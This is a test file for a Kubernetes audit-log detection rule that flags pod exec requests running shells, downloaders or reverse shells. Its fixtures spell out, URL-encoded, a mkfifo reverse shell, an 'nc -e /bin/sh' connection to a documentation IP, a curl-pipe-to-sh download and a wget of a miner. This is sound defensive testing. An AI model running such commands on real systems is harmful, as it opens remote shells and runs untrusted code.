import { describe, expect, it } from 'vitest';
import { kd023ExecShellOrDownloader as rule } from '../../../../../core/detection/rules/kd-023-exec-shell-or-downloader.ts';
import {
  corpusEvent,
  DENIED_BY_RBAC,
  detect,
  exampleOf,
  fixtureEvent,
  variant,
} from './rule-test-support.ts';

const spdyExec = () => fixtureEvent('eks-audit-exec-pod-create.json');

/** The SPDY exec fixture running the given URL-encoded query. */
function execWith(query: string) {
  return variant(spdyExec(), {
    requestURI: `/api/v1/namespaces/default/pods/nginx-deployment-7998647bdf-phvq7/exec?${query}`,
  });
}

describe('KD-023 exec command is a shell / downloader / reverse shell', () => {
  it('flags its example', () => {
    expect(detect(rule, exampleOf(rule))?.evidence.reason).toContain('reverse shell (/dev/tcp/)');
  });

  it('flags an interactive shell (kubectl exec -it … -- bash)', () => {
    expect(detect(rule, spdyExec())?.evidence.reason).toBe('interactive shell');
    expect(detect(rule, fixtureEvent('eks-audit-exec-pod-websocket-get.json'))?.evidence.reason).toBe(
      'interactive shell',
    );
  });

  it.each([
    [
      'command=sh&command=-c&command=rm+%2Ftmp%2Ff%3Bmkfifo+%2Ftmp%2Ff%3Bcat+%2Ftmp%2Ff%7Csh',
      'reverse shell (mkfifo)',
    ],
    ['command=nc&command=-e&command=%2Fbin%2Fsh&command=198.51.100.7&command=4444', 'reverse shell (nc -e)'],
    [
      'command=sh&command=-c&command=curl+-s+https%3A%2F%2Fexample.net%2Fx.sh+%7C+sh',
      'download (curl/wget to http(s))',
    ],
    ['command=wget&command=http%3A%2F%2F198.51.100.7%2Fminer', 'download (curl/wget to http(s))'],
  ])('flags %s', (query, reason) => {
    expect(detect(rule, execWith(query))?.evidence.reason).toBe(reason);
  });

  it('flags an offensive tool user agent', () => {
    const event = variant(execWith('command=id'), { userAgent: 'TruffleHog/3.63' });

    expect(detect(rule, event)?.evidence.reason).toBe('offensive tool user agent (trufflehog)');
  });

  it('ignores a non-interactive shell running an ordinary command', () => {
    expect(detect(rule, execWith('command=sh&command=-c&command=ls+-la&stdout=true'))).toBeUndefined();
  });

  it('ignores look-alikes of the reverse-shell markers', () => {
    expect(
      detect(rule, execWith('command=rsync&command=-e&command=ssh&command=%2Fdata&stdout=true')),
    ).toBeUndefined();
    expect(
      detect(rule, execWith('command=curl&command=localhost%3A8080%2Fhealthz&stdout=true')),
    ).toBeUndefined();
  });

  it('ignores commands of kubectl cp and token theft (other rules)', () => {
    expect(detect(rule, corpusEvent(80))).toBeUndefined();
    expect(detect(rule, corpusEvent(156))).toBeUndefined();
  });

  it('ignores a denied exec', () => {
    expect(detect(rule, variant(spdyExec(), DENIED_BY_RBAC))).toBeUndefined();
  });
});
